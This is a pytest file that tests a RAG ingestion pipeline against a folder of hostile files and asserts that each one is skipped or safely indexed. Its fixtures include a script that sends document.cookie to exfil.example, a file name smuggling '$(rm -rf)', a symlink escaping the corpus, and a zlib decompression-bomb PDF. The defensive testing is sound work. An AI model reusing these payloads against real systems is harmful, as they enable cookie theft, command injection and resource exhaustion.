"""Hostile files: whatever lands in the corpus folder, a refresh finishes, says why it skipped each
unreadable file in one line, keeps the readable ones searchable, stays inside the corpus folder and keeps
its memory bounded. PDF parsing runs in a cage that stops a parser that hangs or blows its memory."""

from __future__ import annotations

import io
import os
import threading
import time
import zlib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rag import corpus, store
from rag.chunking import chunk_document, sections
from rag.config import Settings
from rag.ingest import RefreshReport, refresh
from rag.retrieve import Retriever
from tests.conftest import ROOT, make_settings, run_driver
from tests.test_chunking import assert_exact_and_covering, tokenizer
from tests.test_corpus import minimal_pdf, pdf_file

SHELL_NAME = "$(rm -rf) ü ;&.md"
BIG_MB = 50
# Each readable file states one fact found nowhere else; the question must find that file first.
READABLE = {
    "utf16.txt": "Who trained the Quokka-9 language model?",
    "page.html": "Which foundation released the Numbat-3 model, and under which licence?",
    SHELL_NAME: "Which lab distilled the Echidna-5 model?",
    "plain.md": "Where is the Wallaby-2 model hosted?",
}
# Unreadable files and a word their one-line reason must contain.
UNREADABLE = {
    "binary.txt": "binary file",
    "latin1.md": "not UTF-8",
    "empty.md": "empty file",
    "big.txt": f"over the {Settings().max_file_mb:.0f} MB limit",
    "corrupt.pdf": "corrupt PDF",
    "locked.pdf": "encrypted PDF",
    "aes.pdf": "encrypted PDF",
    "outside.md": "outside the corpus",
    "pipe-link.md": "not a regular file",
}
OUTSIDE_TOKEN = "OUTSIDEONLY"  # lives in a file outside the corpus that a link points to
SCRIPT_TOKEN = "SCRIPTONLY"  # lives only in a <script> and a <style> of the HTML page


def encrypted_pdf(text: str, user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(minimal_pdf(text))))
    writer.encrypt(user_password=user_password, owner_password="owner")  # RC4: no extra package needed
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def aes_pdf(text: str) -> bytes:
    """An AES-encrypted PDF with an empty user password (what "protect from editing" tools write).

    pypdf can only write AES with the `cryptography` package, which is not installed, so an RC4 file's
    encryption dictionary is rewritten to declare AESV2: pypdf then needs AES to read it, as with a real one.
    """
    raw = encrypted_pdf(text, user_password="")
    aes = b"/V 4\n/R 4\n/CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >>\n/StmF /StdCF\n/StrF /StdCF\n"
    assert b"/V 2\n/R 3\n" in raw
    return raw.replace(b"/V 2\n/R 3\n", aes)


def pdf_with_content(stream: bytes, pages: int = 1) -> bytes:
    """A PDF whose `pages` pages all draw the same (Flate-compressed) content stream."""
    kids = " ".join(f"{6 + i} 0 R" for i in range(pages)).encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< >>",
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 3 0 R >> >> >>"
    ] * pages
    return pdf_file(objects)


def write_hostile_corpus(root: Path) -> Path:
    """The corpus folder of the issue: every kind of file a user (or an attacker) may drop in."""
    folder = root / "corpus"
    folder.mkdir(parents=True)
    (folder / "utf16.txt").write_bytes(
        "The Quokka-9 language model was trained by the Wombat Research Collective in Perth.".encode("utf-16")
    )
    (folder / "page.html").write_text(
        "<html><head><title>Numbat models</title><style>.x{color:red} /* SCRIPTONLY */</style>"
        "<script>var t = 'SCRIPTONLY'; fetch('http://exfil.example/?c=' + document.cookie)</script></head>"
        "<body><h1>Numbat</h1><p>The Numbat-3 model is released under the Apache 2.0 licence by the "
        "Bilby Foundation.</p><script>alert('SCRIPTONLY')</script></body></html>",
        encoding="utf-8",
    )
    (folder / SHELL_NAME).write_text(
        "# Echidna\n\nThe Echidna-5 model was distilled from a larger teacher by the Platypus Lab in Hobart.\n",
        encoding="utf-8",
    )
    (folder / "plain.md").write_text(
        "# Wallaby\n\nThe Wallaby-2 model is hosted in a Canberra data centre.\n"
    )
    (folder / "binary.txt").write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 40)
    (folder / "latin1.md").write_bytes("Le modèle Koala-4 a été entraîné à Montréal.".encode("latin-1"))
    (folder / "empty.md").write_bytes(b"")
    line = b"The Dugong-8 model is described at length in this very large file. " * 16 + b"\n"
    with (folder / "big.txt").open("wb") as fh:
        for _ in range(BIG_MB * 2**20 // len(line) + 1):
            fh.write(line)
    (folder / "corrupt.pdf").write_bytes(
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\n%%EOF garbage"
    )
    (folder / "locked.pdf").write_bytes(encrypted_pdf("The Kiwi-6 model is secret.", user_password="hunter2"))
    (folder / "aes.pdf").write_bytes(aes_pdf("The Kakapo-1 model is secret too."))
    secret = root / "secret.md"
    secret.write_text(f"# Private\n\n{OUTSIDE_TOKEN}: the Dingo-7 weights are kept in a private vault.\n")
    os.symlink(secret, folder / "outside.md")
    os.mkfifo(folder / ".pipe")  # hidden, so not scanned itself; a link to it must not hang the scan
    os.symlink(folder / ".pipe", folder / "pipe-link.md")
    return folder


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, embedder: Any) -> tuple[Settings, RefreshReport]:
    tmp = tmp_path_factory.mktemp("hostile")
    write_hostile_corpus(tmp)
    settings = make_settings(tmp)
    return settings, refresh(settings, embedder=embedder)


def test_refresh_of_a_hostile_corpus_lists_each_unreadable_file_with_a_one_line_reason(
    hostile: tuple[Settings, RefreshReport],
) -> None:
    _, report = hostile
    reasons = {s.id: s.reason for s in report.skipped}
    assert set(reasons) == set(UNREADABLE)
    for name, expected in UNREADABLE.items():
        assert expected in reasons[name], (name, reasons[name])
        assert reasons[name].strip(), name
        assert "\n" not in reasons[name], (name, reasons[name])
        assert "Traceback" not in reasons[name]
    assert sorted(report.added) == sorted(READABLE)


@pytest.mark.parametrize("name", list(READABLE))
def test_readable_files_of_a_hostile_corpus_are_searchable(
    hostile: tuple[Settings, RefreshReport], embedder: Any, name: str
) -> None:
    settings, _ = hostile
    [best, *_] = Retriever(settings, embedder).retrieve(READABLE[name], top_k=3)
    assert best.chunk.doc_id == name


def test_links_out_of_the_corpus_scripts_and_styles_never_reach_the_index(
    hostile: tuple[Settings, RefreshReport],
) -> None:
    settings, _ = hostile
    manifest = store.load_manifest(settings.index_dir)
    assert set(manifest.documents) == set(READABLE)
    texts = [n.get_content() for n in store.live_nodes(settings, settings.index_dir, manifest.version)]
    assert texts
    assert not [t for t in texts if OUTSIDE_TOKEN in t or SCRIPT_TOKEN in t or "exfil" in t]


def test_a_link_to_a_named_pipe_is_skipped_instead_of_blocking_the_scan(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / ".fifo")
    os.symlink(tmp_path / ".fifo", tmp_path / "notes.md")
    (tmp_path / "ok.md").write_text("# Fine\n\nText.\n")
    result: list[Any] = []
    scanner = threading.Thread(target=lambda: result.append(corpus.scan(tmp_path, 2**30)), daemon=True)
    scanner.start()
    scanner.join(timeout=10)
    if scanner.is_alive():  # unblock the stuck reader so the thread can end, then fail
        with open(tmp_path / ".fifo", "wb"):
            pass
        pytest.fail("scanning a link to a named pipe blocked")
    files, skipped = result[0]
    assert [f.id for f in files] == ["ok.md"]
    assert [(s.id, "not a regular file" in s.reason) for s in skipped] == [("notes.md", True)]


def test_a_file_name_with_a_line_break_cannot_forge_lines_in_the_ingest_listing(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from rag.cli import app

    corpus_dir = tmp_path / "corpus"
    corpus_dir.mkdir()
    (corpus_dir / "notes\nerror: index corrupted.md").write_text("# Notes\n\nText.\n")
    (corpus_dir / "empty.md").write_bytes(b"")
    result = CliRunner().invoke(app, ["ingest", "--corpus", str(corpus_dir), "--index", str(tmp_path / "i")])
    assert result.exit_code == 0, result.output
    lines = result.output.strip().splitlines()
    assert [line.split(" ", 1)[0] for line in lines] == ["skipped", "skipped", "added"], lines
    assert "skipped notes\\x0aerror: index corrupted.md: file name holds a control character" in lines[1]


# The ingest run as its own process, with its peak memory measured over the refresh alone:
# `/proc/self/clear_refs` 5 resets the kernel's high-water mark (VmHWM) after the model is loaded.
MEMORY_DRIVER = """
import json, sys
from pathlib import Path
from rag.config import Settings
from rag.embeddings import load_embedder
from rag.ingest import refresh

def status(field):
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) * 1024
    raise KeyError(field)

settings = Settings(corpus_dir=sys.argv[1], index_dir=sys.argv[2], ollama_host="http://127.0.0.1:9")
embedder = load_embedder(settings)
embedder.get_text_embedding("warm up")
before = status("VmRSS")
Path("/proc/self/clear_refs").write_text("5")
report = refresh(settings, embedder=embedder)
print(json.dumps({"before": before, "peak": status("VmHWM"), "report": report.as_dict()}))
"""


@pytest.mark.slow
def test_ingest_process_memory_stays_bounded_with_a_50_mb_file(tmp_path: Path) -> None:
    folder = write_hostile_corpus(tmp_path)
    assert (folder / "big.txt").stat().st_size >= BIG_MB * 2**20
    out = run_driver(MEMORY_DRIVER, str(folder), str(tmp_path / "index"), cwd=ROOT)
    growth_mb = (out["peak"] - out["before"]) / 2**20
    print(f"peak RSS growth during the refresh: {growth_mb:.0f} MB (peak {out['peak'] / 2**20:.0f} MB)")
    assert growth_mb < 1024
    skipped = {s["source"]: s["reason"] for s in out["report"]["skipped"]}
    assert "over the" in skipped["big.txt"]
    assert out["report"]["added"] == len(READABLE)


# --- Parsers in a cage -------------------------------------------------------------------------------


def source_of(path: Path) -> corpus.SourceFile:
    files, skipped = corpus.scan(path.parent, 2**30)
    assert not skipped, skipped
    return next(f for f in files if f.path == path.resolve())


def test_a_pdf_parse_that_overruns_its_time_is_stopped_with_a_reason(tmp_path: Path) -> None:
    (tmp_path / "paper.pdf").write_bytes(minimal_pdf("Falcon was developed by TII"))
    with pytest.raises(corpus.Unreadable, match=r"took over 0\.01 s; stopped"):
        corpus.read(source_of(tmp_path / "paper.pdf"), parse_timeout_s=0.01)


@pytest.mark.slow
def test_a_pdf_that_keeps_the_parser_busy_is_stopped_at_the_time_limit(tmp_path: Path) -> None:
    # 400 pages sharing one content stream of 30,000 text operators: a small file, minutes of parsing.
    content = b"BT /F1 12 Tf 72 720 Td " + b"(x) Tj 1 0 Td " * 30_000 + b"ET"
    (tmp_path / "slow.pdf").write_bytes(pdf_with_content(zlib.compress(content), pages=400))
    assert (tmp_path / "slow.pdf").stat().st_size < 100_000
    started = time.monotonic()
    with pytest.raises(corpus.Unreadable, match=r"took over 3 s; stopped"):
        corpus.read(source_of(tmp_path / "slow.pdf"), parse_timeout_s=3)
    assert time.monotonic() - started < 15


def test_a_decompression_bomb_pdf_is_stopped_at_the_memory_cap(tmp_path: Path) -> None:
    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(b" " * 2**24) for _ in range(64)) + packer.flush()  # 1 GiB → 1 MB
    (tmp_path / "bomb.pdf").write_bytes(pdf_with_content(bomb))
    with pytest.raises(corpus.Unreadable, match=r"needed over 64 MB; stopped"):
        corpus.read(source_of(tmp_path / "bomb.pdf"), parse_memory_mb=64)


def test_the_memory_cap_leaves_room_for_an_ordinary_pdf(tmp_path: Path) -> None:
    (tmp_path / "paper.pdf").write_bytes(minimal_pdf("Falcon was developed by TII"))
    doc = corpus.read(source_of(tmp_path / "paper.pdf"), parse_memory_mb=64)
    assert "Falcon was developed by TII" in doc.text


# --- Markdown-heavy documents through the chunker ----------------------------------------------------

_word = st.text(alphabet="abcdefghijklmnopqrstuvwxyzé", min_size=1, max_size=10)
_sentence = st.lists(_word, min_size=1, max_size=12).map(lambda ws: " ".join(ws).capitalize() + ".")
_inline = st.one_of(
    _sentence,
    _word.map(lambda w: f"**{w}**"),
    _word.map(lambda w: f"`{w}`"),
    _word.map(lambda w: f"[{w}](http://x.example/{w})"),
    _word.map(lambda w: f"![{w}](img/{w}.png)"),
)
_paragraph = st.lists(_inline, min_size=1, max_size=8).map(" ".join)
_block = st.one_of(
    st.tuples(st.integers(1, 6), _paragraph).map(lambda t: "#" * t[0] + " " + t[1]),
    st.just("#"),  # a lone hash: not a heading
    _paragraph,
    st.lists(_paragraph, min_size=1, max_size=5).map(lambda ps: "\n".join(f"- {p}" for p in ps)),
    st.lists(_paragraph, min_size=1, max_size=4).map(lambda ps: "\n".join(f"1. {p}" for p in ps)),
    st.lists(_word, min_size=2, max_size=4).map(
        lambda ws: "| " + " | ".join(ws) + " |\n|" + "---|" * len(ws) + "\n| " + " | ".join(ws) + " |"
    ),
    _paragraph.map(lambda p: f"```python\n# not a heading\n{p}\n```"),
    _paragraph.map(lambda p: f"> {p}\n> # quoted"),
    st.just("---\ntitle: Front\n---"),
    st.just("<!-- comment -->"),
)
_markdown = st.tuples(
    st.lists(_block, max_size=25), st.sampled_from(["\n\n", "\n", "\r\n\r\n", "\n\n\n"])
).map(lambda t: t[1].join(t[0]))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_markdown)
def test_markdown_heavy_documents_chunk_into_exact_covering_spans(text: str) -> None:
    doc = corpus.Document("d.md", "Title", text, "sha", "markdown")
    assert_exact_and_covering(doc, chunk_size=48, overlap=8)
    fenced = "# not a heading"
    for sec in sections(doc):
        assert fenced.lstrip("# ") not in sec.path, "a # line inside a code fence is not a heading"
    for c in chunk_document(doc, tokenizer(), 48, 8):
        assert len(tokenizer()(c.text)) <= 256, "no chunk exceeds the embedder's window"
